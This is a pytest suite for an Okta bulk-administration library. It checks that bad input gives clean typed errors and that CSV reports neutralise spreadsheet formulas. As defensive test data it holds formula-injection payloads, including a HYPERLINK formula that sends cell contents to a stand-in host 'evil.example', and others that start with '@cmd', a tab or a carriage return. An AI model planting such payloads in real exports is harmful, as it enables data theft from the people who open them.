"""Odd input gets a typed error (a clean message and exit 2 from the CLI), never a traceback, and
before any user is touched where it can be checked first; reports cannot carry formulas."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest

from oktakit import BadRequestError, InvalidArgumentError, OktaClient
from oktakit.bulk import MAX_CONCURRENCY
from oktakit.testing import OktaSimulator

from ._support import add_active_users, journal_lines, run_cli, run_process, statuses

pytestmark = pytest.mark.okta_sim(users=0)


async def test_an_item_with_a_lone_surrogate_is_a_typed_error_and_the_journal_stays_whole(
    okta: OktaClient, okta_sim: OktaSimulator, tmp_path: Path
) -> None:
    journal = tmp_path / "j.jsonl"

    with pytest.raises(InvalidArgumentError, match="lone surrogate"):
        await okta.bulk("suspend_user", ["bad\ud800id"], journal=journal, progress=False)
    with pytest.raises(InvalidArgumentError, match="lone surrogate"):
        await okta.bulk_update([{"id": "\udcff"}], progress=False)

    assert ["run"] == [r["kind"] for r in journal_lines(journal)]
    assert 0 == okta_sim.request_counts["suspendUser"]


async def test_a_callable_failing_with_a_lone_surrogate_is_journaled_and_reported(
    okta: OktaClient, tmp_path: Path
) -> None:
    async def fails(item: str) -> None:
        raise RuntimeError("bad \ud800 text")

    journal = tmp_path / "j.jsonl"
    report = await okta.bulk(fails, ["x"], journal=journal, progress=False)
    report.to_csv(tmp_path / "r.csv")
    report.to_jsonl(tmp_path / "r.jsonl")

    assert "bad \ud800 text" == report.failed["x"].message
    assert "bad \ud800 text" == json.loads((tmp_path / "r.jsonl").read_text())["error"]["message"]
    assert "bad \\ud800 text" in (tmp_path / "r.csv").read_text()


async def test_bulk_arguments_that_are_not_json_are_refused_before_any_request(
    okta: OktaClient, okta_sim: OktaSimulator
) -> None:
    with pytest.raises(InvalidArgumentError, match="JSON"):
        await okta.bulk("activate_user", ["00u1"], arguments={"send_email": object()}, progress=False)
    assert 0 == sum(okta_sim.request_counts.values())


@pytest.mark.parametrize("concurrency", [0, MAX_CONCURRENCY + 1, 10**6, True, 2.0])
async def test_concurrency_outside_1_to_the_maximum_is_refused_before_any_request(
    okta: OktaClient, okta_sim: OktaSimulator, concurrency: object
) -> None:
    with pytest.raises(InvalidArgumentError, match=f"from 1 to {MAX_CONCURRENCY}"):
        await okta.bulk("suspend_user", ["00u1"], concurrency=concurrency, progress=False)  # type: ignore[arg-type]
    assert 0 == sum(okta_sim.request_counts.values())


async def test_the_maximum_concurrency_itself_runs(okta: OktaClient, okta_sim: OktaSimulator) -> None:
    ids = add_active_users(okta_sim, 3)

    report = await okta.bulk("suspend_user", ids, concurrency=MAX_CONCURRENCY, progress=False)

    assert sorted(ids) == sorted(report.succeeded)


@pytest.mark.parametrize("value", ["0", str(MAX_CONCURRENCY + 1), "1e3", "٣"])
async def test_the_cli_refuses_a_concurrency_outside_its_range(okta_sim: OktaSimulator, value: str) -> None:
    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", "-", "--concurrency", value)

    assert 2 == code
    assert f"from 1 to {MAX_CONCURRENCY}" in err


async def test_an_ids_file_that_is_not_utf8_is_refused_before_any_request(
    okta_sim: OktaSimulator, tmp_path: Path
) -> None:
    ids = add_active_users(okta_sim, 2)
    ids_file = tmp_path / "ids.txt"
    ids_file.write_bytes(f"{ids[0]}\n{ids[1]}\nm\xfcller@example.com\n".encode("latin-1"))

    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(ids_file))

    assert 2 == code
    assert "line 3 is not UTF-8" in err
    assert "Traceback" not in err
    assert 0 == sum(okta_sim.request_counts.values())


async def test_ids_on_stdin_that_are_not_utf8_stop_the_run_with_exit_2(okta_sim: OktaSimulator) -> None:
    ids = add_active_users(okta_sim, 1)

    code, _, err = await run_cli(
        okta_sim,
        "bulk",
        "suspend",
        "--yes",
        "--ids",
        "-",
        "--no-progress",
        stdin=f"{ids[0]}\n".encode() + b"\xff\xfe\n",
    )

    assert 2 == code, err
    assert "standard input: line 2 is not UTF-8" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"id,title\n00u1,Dr \xe9\n", "not UTF-8 CSV"),
        (b"title\nx\n", "'id' or 'login'"),
        (b"", "'id' or 'login'"),
    ],
)
async def test_a_csv_that_cannot_be_read_is_refused_before_any_request(
    okta_sim: OktaSimulator, tmp_path: Path, content: bytes, message: str
) -> None:
    table = tmp_path / "changes.csv"
    table.write_bytes(content)

    code, _, err = await run_cli(okta_sim, "bulk", "update", "--yes", "--csv", str(table))

    assert 2 == code, err
    assert message in err
    assert "Traceback" not in err
    assert 0 == sum(okta_sim.request_counts.values())


async def _closed_stdin(sim: OktaSimulator, *args: str) -> tuple[int, str, str]:
    """Run the CLI as ``oktakit ARGS <&-`` does: started with no standard input at all."""
    return await run_process(sim, "/bin/sh", "-c", 'exec "$0" -m oktakit "$@" <&-', sys.executable, *args)


async def test_a_closed_stdin_is_a_usage_error_not_a_traceback(
    okta_sim: OktaSimulator, tmp_path: Path
) -> None:
    ids = add_active_users(okta_sim, 1)
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text(ids[0] + "\n")

    from_stdin = await _closed_stdin(okta_sim, "bulk", "suspend", "--ids", "-")
    confirm = await _closed_stdin(okta_sim, "bulk", "deactivate", "--ids", str(ids_file))

    assert (2, 2) == (from_stdin[0], confirm[0]), (from_stdin, confirm)
    assert "standard input is closed" in from_stdin[2]
    assert "not confirmed" in confirm[2]
    assert all("Traceback" not in err for _, _, err in (from_stdin, confirm))
    assert ["ACTIVE"] == statuses(okta_sim, ids)
    assert 0 == sum(okta_sim.request_counts.values())


async def test_an_ids_path_that_is_a_directory_or_missing_is_exit_2(
    okta_sim: OktaSimulator, tmp_path: Path
) -> None:
    results = [
        await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(tmp_path)),
        await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(tmp_path / "missing.txt")),
        await run_cli(
            okta_sim, "bulk", "suspend", "--yes", "--ids", "-", "--journal", str(tmp_path / "a\udcffb")
        ),
    ]

    assert [2, 2, 0] == [code for code, _, _ in results], results
    assert all("Traceback" not in err for _, _, err in results)


async def test_report_cells_that_a_spreadsheet_would_run_are_neutralised(
    okta: OktaClient, tmp_path: Path
) -> None:
    async def fails(item: str) -> None:
        raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"click")')

    items = ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "plain", "a=b"]
    report = await okta.bulk(fails, items, progress=False)
    path = tmp_path / "r.csv"
    report.to_csv(path)

    rows = list(csv.DictReader(path.read_text().splitlines()))
    assert ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "plain", "a=b"] == [row["id"] for row in rows]
    assert ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "plain", "a=b"] == [row["login"] for row in rows]
    assert {'RuntimeError: =HYPERLINK("http://evil.example/?"&A1,"click")'} == {row["detail"] for row in rows}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The data itself is unchanged: the JSON lines and the report object keep the text as it was.
    assert items == [row.item for row in report.rows()]
    report.to_jsonl(tmp_path / "r.jsonl")
    assert "=1+2" == json.loads((tmp_path / "r.jsonl").read_text().splitlines()[0])["item"]


async def test_tab_and_carriage_return_starts_are_neutralised_too(okta: OktaClient, tmp_path: Path) -> None:
    # Items are stripped of blanks, so the cells that can start with a tab or a carriage return
    # are what a server said: here the error code of a hostile answer.
    async def fails(item: str) -> None:
        code = "\t=cmd" if item == "t" else "\r=cmd"
        raise BadRequestError(status=400, method="POST", url="https://x.example/", error_code=code)

    report = await okta.bulk(fails, ["t", "r"], progress=False)
    report.to_csv(tmp_path / "r.csv")

    text = io.StringIO((tmp_path / "r.csv").read_bytes().decode(), newline="")
    assert ["'\t=cmd", "'\r=cmd"] == [row["error_code"] for row in csv.DictReader(text)]
